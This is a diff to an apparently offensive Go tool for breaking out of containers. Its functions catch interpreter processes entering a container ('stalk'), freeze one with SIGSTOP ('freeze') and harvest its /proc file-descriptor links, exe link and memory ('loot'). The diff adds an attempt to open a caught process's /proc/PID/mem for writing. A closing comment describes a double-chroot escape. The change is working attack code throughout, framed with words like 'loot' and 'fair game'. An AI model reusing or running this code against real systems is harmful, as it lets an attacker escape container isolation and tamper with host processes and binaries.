@@ -68,33 +68,34 @@ func result(err error) string {
 // stalk looks at processes that appear in the container: the interpreter that a command comes in by is one for a moment. It knows it by
 // its name, which is the number of the descriptor that it was executed from. What it can get of such a process is printed, and in the end
 // how many it has met.
-func stalk(seconds string) error { return await(seconds, loot) }
+func stalk(seconds string) error { return await(seconds, 20, loot) }
 
-// freeze stops what stalk looks at, for good.
+// freeze stops one of those that stalk looks at, for good.
 func freeze(seconds string) error {
-	return await(seconds, func(pid int) {
-		if unix.Kill(pid, unix.SIGSTOP) == nil && interpreter(pid) {
-			fmt.Println("frozen", pid)
+	return await(seconds, 1, func(pid int) bool {
+		if unix.Kill(pid, unix.SIGSTOP) != nil || !interpreter(pid) {
+			return false // it has become the command
 		}
+		fmt.Println("frozen", pid)
+		return true
 	})
 }
 
-// await calls do for each interpreter that comes within a time.
-func await(seconds string, do func(pid int)) error {
+// await calls do for each interpreter that comes, until that was so with enough of them or a time is over.
+func await(seconds string, enough int, do func(pid int) bool) error {
 	n, err := strconv.Atoi(seconds)
 	if err != nil {
 		return err
 	}
 	met := 0
-	for end, seen := time.Now().Add(time.Duration(n)*time.Second), os.Getpid(); time.Now().Before(end); {
+	for end, seen := time.Now().Add(time.Duration(n)*time.Second), os.Getpid(); met < enough && time.Now().Before(end); {
 		last, err := lastPid()
 		if err != nil {
 			return err
 		}
 		for ; seen < last; seen++ {
-			if interpreter(seen + 1) {
+			if interpreter(seen+1) && do(seen+1) {
 				met++
-				do(seen + 1)
 			}
 		}
 	}
@@ -120,7 +121,7 @@ func interpreter(pid int) bool {
 }
 
 // loot prints what it can get at. That is told by its name: the process may be a command by now, which is fair game.
-func loot(pid int) {
+func loot(pid int) bool {
 	dir := fmt.Sprintf("/proc/%d", pid)
 	links, _ := filepath.Glob(dir + "/fd/*")
 	for _, link := range append(links, dir+"/exe") {
@@ -129,9 +130,14 @@ func loot(pid int) {
 			fmt.Println("LOOT", link, target)
 		}
 	}
+	// Its memory: execve gives a process another one before it gives it another name.
+	if open(dir+"/mem", unix.O_RDWR) == nil && interpreter(pid) {
+		fmt.Println("LOOT memory of", pid)
+	}
 	if maps, err := os.ReadFile(dir + "/maps"); err == nil && strings.Contains(string(maps), "memfd:") {
 		fmt.Println("LOOT maps of", pid)
 	}
+	return true
 }
 
 // flee leaves a root by the way of a second one: chroot(2) does not change the working directory, from which ".." then leads up past
